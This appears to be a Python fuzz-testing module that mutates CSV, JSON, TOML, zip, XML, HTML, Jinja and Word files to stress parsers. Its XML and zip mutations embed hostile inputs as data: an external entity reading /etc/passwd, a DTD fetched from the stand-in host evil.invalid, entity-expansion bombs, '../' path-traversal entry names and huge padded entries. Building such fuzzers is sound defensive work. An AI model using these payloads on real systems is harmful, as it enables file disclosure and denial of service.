"""Sound files made unsound: bytes, lines, cells, values, parts and elements changed, moved, doubled, cut, blown up."""

from __future__ import annotations

import io
import json
import random
import re
import warnings
import zipfile
from collections.abc import Callable
from typing import Any

from tests.campaign.fuzz.tokens import json_value, literal, token

Mutation = Callable[[bytes, random.Random], bytes]


def mutated(data: bytes, kind: str, chance: random.Random) -> bytes:
    """The file after one to a few mutations, most of them of the sort that its kind knows."""
    for _ in range(chance.choice((1, 1, 1, 2, 3, 8))):
        own = _OF_KIND.get(kind, ())
        change = chance.choice(own if own and (kind == "frames" or chance.random() < 0.7) else _OF_BYTES)
        data = change(data, chance)
        if len(data) > 24 << 20:
            break
    return data


# --- bytes ------------------------------------------------------------------------------------------------------------


def _span(data: bytes, chance: random.Random, most: int = 200) -> tuple[int, int]:
    first = chance.randrange(len(data) + 1)
    return first, min(len(data), first + chance.randrange(1, most))


def _flip(data: bytes, chance: random.Random) -> bytes:
    changed = bytearray(data)
    for _ in range(chance.choice((1, 3, 20))):
        if changed:
            at = chance.randrange(len(changed))
            changed[at] = chance.choice((chance.randrange(256), 0, 255, changed[at] ^ 1 << chance.randrange(8)))
    return bytes(changed)


def _cut(data: bytes, chance: random.Random) -> bytes:
    return data[: chance.randrange(len(data) + 1)]


def _left_out(data: bytes, chance: random.Random) -> bytes:
    first, last = _span(data, chance)
    return data[:first] + data[last:]


def _doubled(data: bytes, chance: random.Random) -> bytes:
    first, last = _span(data, chance, chance.choice((20, 2_000)))
    return data[:last] + data[first:last] * chance.choice((1, 2, 50)) + data[last:]


def _put_in(data: bytes, chance: random.Random) -> bytes:
    at = chance.randrange(len(data) + 1)
    return data[:at] + token(chance).encode("utf-8", "surrogatepass") + data[at:]


def _number(data: bytes, chance: random.Random) -> bytes:
    """A number of the text, as it stands there, becomes another."""
    found = list(re.finditer(rb"[0-9]{1,20}", data[: 1 << 18]))
    if not found:
        return _flip(data, chance)
    at = chance.choice(found)
    return data[: at.start()] + literal(chance).encode() + data[at.end() :]


def _byte_mark(data: bytes, chance: random.Random) -> bytes:
    return (
        chance.choice((b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\0\0", b"\0", b"PK", b"%PDF", b"<?xml?>"))
        + data
    )


_OF_BYTES: tuple[Mutation, ...] = (_flip, _flip, _cut, _left_out, _doubled, _put_in, _number, _byte_mark)


# --- text -------------------------------------------------------------------------------------------------------------

_ENDS = re.compile(rb"(\r\n|\r|\n)")


def _lines_moved(data: bytes, chance: random.Random) -> bytes:
    """Lines swapped, doubled, left out."""
    lines = data.splitlines(keepends=True)
    if len(lines) < 2:
        return _doubled(data, chance)
    one, other = chance.randrange(len(lines)), chance.randrange(len(lines))
    match chance.randrange(3):
        case 0:
            lines[one], lines[other] = lines[other], lines[one]
        case 1:
            lines[one:one] = [lines[other]] * chance.choice((1, 2, 300))
        case _:
            del lines[one]
    return b"".join(lines)


def _cell(data: bytes, chance: random.Random) -> bytes:
    """A cell, between two signs that separate, becomes a hostile value; or all of its column do."""
    lines = data.split(b"\n")
    separator = max((b";", b",", b"\t", b"|"), key=data.count)
    value = token(chance).encode("utf-8", "surrogatepass")
    if chance.random() < 0.4:
        value = b'"' + value.replace(b'"', b'""') + b'"'
    rows = range(1, len(lines)) if chance.random() < 0.1 else [chance.randrange(len(lines))]
    column = chance.randrange(lines[0].count(separator) + 2)
    for number in rows:
        cells = lines[number].split(separator)
        cells[column % len(cells)] = value
        lines[number] = separator.join(cells)
    return b"\n".join(lines)


def _ends(data: bytes, chance: random.Random) -> bytes:
    return _ENDS.sub(chance.choice((b"\r", b"\r\n", b"\n\n", b"\x0b", "\u2028".encode(), b"\0\n")), data)


def _encoded(data: bytes, chance: random.Random) -> bytes:
    text = data.decode("utf-8", "replace")
    return text.encode(
        chance.choice(("utf-16", "utf-16-le", "utf-32", "cp1252", "mac-roman", "cp850", "utf-7")), "replace"
    )


def _separated(data: bytes, chance: random.Random) -> bytes:
    old, new = chance.sample((b";", b",", b"\t", b"|", b"\x1f", b"\xa7"), 2)
    return data.replace(old, new)


# --- JSON, TOML -------------------------------------------------------------------------------------------------------


def _value(data: bytes, chance: random.Random) -> bytes:
    """A value or key of a JSON document becomes another, moves, or stands twice."""
    try:
        raw = json.loads(data)
        holder, key = _place_in(raw, chance)
    except (ValueError, RecursionError, IndexError):
        return _put_in(data, chance) if data[:1] != b"{" else data
    match chance.randrange(6):
        case 0:
            del holder[key]
        case 1 if isinstance(holder, list):
            holder += [holder[key]] * chance.choice((1, 3, 200))
        case 2 if isinstance(holder, dict):
            holder[token(chance)] = holder.pop(key)
        case 3:
            holder[key] = _place_in(raw, chance)[0]
            if holder[key] is holder or isinstance(holder[key], dict | list):
                holder[key] = json.loads(json.dumps(json_value(chance)))
        case _:
            holder[key] = json_value(chance)
    try:
        text = json.dumps(raw, ensure_ascii=chance.random() < 0.5)
    except (ValueError, RecursionError):
        return data
    return text.encode("utf-8", "surrogatepass")


def _place_in(raw: Any, chance: random.Random) -> tuple[Any, Any]:
    """Some holder of the document and a key of it."""
    holder, key = raw, None
    for _ in range(chance.randrange(1, 7)):
        if not isinstance(holder, dict | list) or not holder:
            break
        at = chance.choice(list(holder) if isinstance(holder, dict) else range(len(holder)))
        found = (holder, at)
        holder, key = holder[at], found
    if key is None:
        raise IndexError
    return key


def _json_text(data: bytes, chance: random.Random) -> bytes:
    """A value of the text becomes what no JSON writer writes."""
    found = list(re.finditer(rb'"[^"\\]{0,60}"|\b[0-9]+\b', data[: 1 << 18]))
    if not found:
        return _put_in(data, chance)
    at = chance.choice(found)
    odd = chance.choice(
        (
            b"NaN",
            b"-Infinity",
            b"1e999",
            b"[" * 300 + b"]" * 300,
            b"[" * 100_000,
            b'{"a":' * 2_000 + b"1" + b"}" * 2_000,
            b'"\\ud800"',
            b'"\\u0000"',
            b'"\\u202e"',
            b"01",
            b"1" * 5_000,
            b"-0",
            b"'x'",
            b"",
            b"undefined",
            b'{"a":1,"a":2}',
        )
    )
    return data[: at.start()] + odd + data[at.end() :]


def _toml_value(data: bytes, chance: random.Random) -> bytes:
    """What stands behind an equals sign becomes another literal, or a key another."""
    found = list(re.finditer(rb"(?m)^([^=\n#]+)=([^\n]*)$", data))
    if not found:
        return _put_in(data, chance)
    at = chance.choice(found)
    if chance.random() < 0.25:
        key = json.dumps(token(chance)) if chance.random() < 0.5 else "a." * chance.choice((2, 50, 20_000)) + "a"
        return data[: at.start(1)] + key.encode("utf-8", "surrogatepass") + b" " + data[at.end(1) :]
    return data[: at.start(2)] + b" " + literal(chance, toml=True).encode("utf-8", "surrogatepass") + data[at.end(2) :]


# --- zip, XML, HTML ---------------------------------------------------------------------------------------------------


def _parts(data: bytes, chance: random.Random) -> bytes:
    """A part changed, renamed, doubled, left out, or blown up; the zip is whole again."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            parts = [(name, archive.read(name)) for name in archive.namelist()]
    except Exception:  # mutated before
        return _flip(data, chance)
    at = chance.randrange(len(parts)) if parts else 0
    if not parts:
        return data
    name, content = parts[at]
    match chance.randrange(10):
        case 0:
            del parts[at]
        case 1:
            parts.append((chance.choice((name, name.upper(), parts[0][0])), content))
        case 2:
            parts[at] = (chance.choice(("../" * 9 + name, "/" + name, name + "\0x", "x" * 300, token(chance))), content)
        case 3:
            parts[at] = (name, content + b" " * chance.choice((1 << 16, 1 << 21, 1 << 24)))
        case 4:
            parts.extend((f"{name}{number}", b"") for number in range(chance.choice((10, 3_000))))
        case 5 | 6:
            parts[at] = (name, mutated(content, "bytes", chance))
        case _:
            parts[at] = (name, _xml(content, chance))
    stream = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", chance.choice((0, 8))) as archive:
        warnings.simplefilter("ignore")
        for number, (name, content) in enumerate(parts):
            with_name = zipfile.ZipInfo(name.encode("utf-8", "replace").decode().replace("\0", "_") or str(number))
            with_name.compress_type = archive.compression
            archive.writestr(with_name, content)
    return stream.getvalue()


def _xml(data: bytes, chance: random.Random) -> bytes:
    """Elements, attributes and texts changed; entities declared; deep and wide nesting."""
    tags = list(re.finditer(rb"<[^<>]{1,300}>", data[: 1 << 19]))
    texts = list(re.finditer(rb">([^<>]{1,300})<", data[: 1 << 19]))
    attributes = list(re.finditer(rb'="([^"<>]{0,200})"', data[: 1 << 19]))
    what = chance.randrange(7)
    if what == 0 and texts:
        at = chance.choice(texts)
        return data[: at.start(1)] + _escaped(token(chance)) + data[at.end(1) :]
    if what in (1, 2) and attributes:
        at = chance.choice(attributes)
        new = literal(chance) if chance.random() < 0.6 else token(chance)
        return data[: at.start(1)] + _escaped(new).replace(b'"', b"&quot;") + data[at.end(1) :]
    if what == 3 and tags:
        at = chance.choice(tags)
        return data[: at.end()] + at.group() * chance.choice((1, 2, 1_000, 60_000)) + data[at.end() :]
    if what == 4 and tags:
        at = chance.choice(tags)
        return data[: at.start()] + data[at.end() :]
    if what == 5:
        head = chance.choice(
            (
                b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>',
                b'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
                b'<!DOCTYPE x [<!ENTITY % p SYSTEM "//evil.invalid/x.dtd"> %p;]>',
                b'<?xml version="1.1" encoding="UTF-7"?>',
            )
        )
        return head + data.replace(b"</", b"&c;</", 3)
    if what == 6 and tags:
        at, deep = chance.choice(tags), chance.choice((50, 3_000, 100_000))
        return data[: at.end()] + b"<x>" * deep + b"</x>" * deep + data[at.end() :]
    return _flip(data, chance)


def _escaped(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode("utf-8", "replace")


_JINJA = (
    "{{ mention }}",
    "{{ x }}",
    "{{ expediteur.nom|join(expediteur.nom) }}",
    "{% for r in rendez_vous %}",
    "{% endfor %}",
    "{% if rendez_vous %}",
    "{% endif %}",
    "{{ '' ~ " + "(" * 200 + "1" + ")" * 200 + " }}",
    "{# ",
    "{{",
    "{%",
    "}}",
    "{% raw %}",
    "{{ 9" + "9" * 5_000 + " }}",
    "{{ mention|default(mention|upper|lower|trim) }}",
    "{{ loop.index }}",
    "{{ rendez_vous }}",
    "{{ expediteur.nom if expediteur else }}",
    "{{ [1][0] }}",
    "{{ {} }}",
    "{{ mention[0] }}",
    "{{ 1/0 }}",
    "{{ 'a' < 1 }}",
    "{{ mention in rendez_vous }}",
    "{{ rendez_vous|first }}",
    "{{ rendez_vous|last|upper }}",
    "{{ ajournements|length|upper }}",
    "{{ expediteur|upper }}",
    "{{ (rendez_vous|first).date }}",
    "{%p if 1 %}",
    "{%tr for r in rendez_vous %}",
    "{%tr endfor %}",
    "{{r mention }}",
    "{{p mention }}",
    "{%- -%}",
)


def _jinja(data: bytes, chance: random.Random) -> bytes:
    """A tag of the template changed for another, or one more."""
    found = list(re.finditer(rb"\{[{%][^}]{0,200}[}%]\}", data))
    new = chance.choice(_JINJA).encode()
    if found and chance.random() < 0.6:
        at = chance.choice(found)
        return data[: at.start()] + chance.choice((new, b"", at.group() * 40)) + data[at.end() :]
    at_byte = chance.randrange(len(data) + 1)
    return data[:at_byte] + new * chance.choice((1, 1, 1, 200)) + data[at_byte:]


def _word(data: bytes, chance: random.Random) -> bytes:
    """A tag of a Word template's body changed."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        body = parts["word/document.xml"]
    except Exception:  # a workbook, or mutated before
        return _parts(data, chance)
    parts["word/document.xml"] = _jinja(body, chance)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


_OF_KIND: dict[str, tuple[Mutation, ...]] = {
    "text": (_lines_moved, _cell, _cell, _cell, _ends, _encoded, _separated),
    "json": (_value, _value, _value, _json_text),
    "frames": (_value,),
    "toml": (_toml_value, _toml_value, _toml_value, _lines_moved),
    "zip": (_parts, _parts, _word),
    "html": (_jinja, _jinja, _lines_moved, _xml),
}
